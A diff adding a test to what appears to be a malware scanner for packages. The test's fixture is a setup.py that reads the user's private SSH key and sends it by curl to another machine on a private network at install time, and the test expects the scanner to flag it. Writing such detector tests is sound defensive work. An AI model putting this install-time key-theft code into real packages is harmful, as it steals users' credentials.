@@ -468,3 +468,16 @@ test('an upload to a hidden address at import is critical; a plain request to it
   const { score: called } = await scan({ 'pkg/up.py': upload.replace('requests.post', 'def send():\n    requests.post') });
   assert.notEqual(called.verdict, 'malicious', called.reason);
 });
+
+test('an SSH key sent to another machine on the private network at install is exfiltration; to loopback it is not', async () => {
+  const code = [
+    'import os, base64, subprocess',
+    "key = open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')).read()",
+    "subprocess.check_output(['curl', f'http://192.168.77.5/?k={base64.b64encode(key.encode()).decode()}'])",
+    "from setuptools import setup\nsetup(name='p')",
+  ].join('\n');
+  const { score } = await scan({ 'p-1/setup.py': code });
+  assert.equal(score.verdict, 'malicious', score.reason);
+  const { score: loopback } = await scan({ 'p-1/setup.py': code.replace('192.168.77.5', '127.0.0.1:8000') });
+  assert.notEqual(loopback.verdict, 'malicious', loopback.reason);
+});
